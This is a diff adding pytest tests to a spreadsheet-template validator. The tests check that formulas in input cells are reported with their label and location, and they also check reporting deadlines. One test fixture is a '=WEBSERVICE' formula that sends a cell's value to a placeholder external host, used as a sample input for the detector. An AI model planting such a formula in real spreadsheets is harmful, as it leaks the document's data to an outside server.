@@ -362,6 +362,37 @@ def test_a_total_overwritten_or_its_formula_changed() -> None:
     assert missing == []
 
 
+
+@pytest.mark.parametrize("key", ["t3.new.natural", "meta.agency", "s1.proactive"])
+def test_a_formula_in_an_input_cell_is_named_with_its_label_cell_and_formula(key: str) -> None:
+    """S2.input (issue 19, item 14): a formula typed into a cell the clerk fills, in a table, 基本信息 or 正文."""
+    formula = '=WEBSERVICE("http://x.example/?"&B3)'
+    (f,) = s2(formulas={key: formula})
+    where = spec.LAYOUT.locations[key]
+    assert (f.code, f.sheet, f.cell, f.severity) == ("S2.input", where.sheet, where.a1, Severity.ERROR)
+    label = " ".join(x for x in spec.labels_of(key) if x)
+    assert f"“{label}”（工作表“{where.sheet}”{where.a1}）中是公式“{formula}”" in f.message, f.message
+
+
+def test_a_formula_in_an_input_cell_the_layout_lacks_is_not_named() -> None:
+    key = "s1.overview"
+    d = data(formulas={key: "=1+1"}, missing=frozenset({key}))
+    d = dataclasses.replace(d, structure=pristine(), props=PROPS)
+    assert [f.code for f in api.check_data(d).by_rule("S2")] == []
+
+
+def test_two_formulas_in_input_cells_are_two_findings() -> None:
+    found = s2(formulas={"t3.new.natural": "=1", "t3.new.business": "=2"})
+    assert sorted(f.cell for f in found) == sorted([at("t3.new.natural"), at("t3.new.business")])
+
+
+@pytest.mark.parametrize(("year", "deadline"), [(spec.YEAR_MIN, dt.date(spec.YEAR_MIN + 1, 1, 31)),
+                                                (spec.YEAR_MAX, dt.date(spec.YEAR_MAX + 1, 1, 31)),
+                                                (spec.YEAR_MIN - 1, None), (spec.YEAR_MAX + 1, None)])
+def test_a_deadline_exists_exactly_for_the_years_the_template_accepts(year: int, deadline: dt.date | None) -> None:
+    assert rules.deadline(year, "政府部门") == deadline
+
+
 # ---- values: V1, V2, V3, V4, V5 ------------------------------------------------------------------------------------
 
 CELL = "t3.refused_third_party.business"
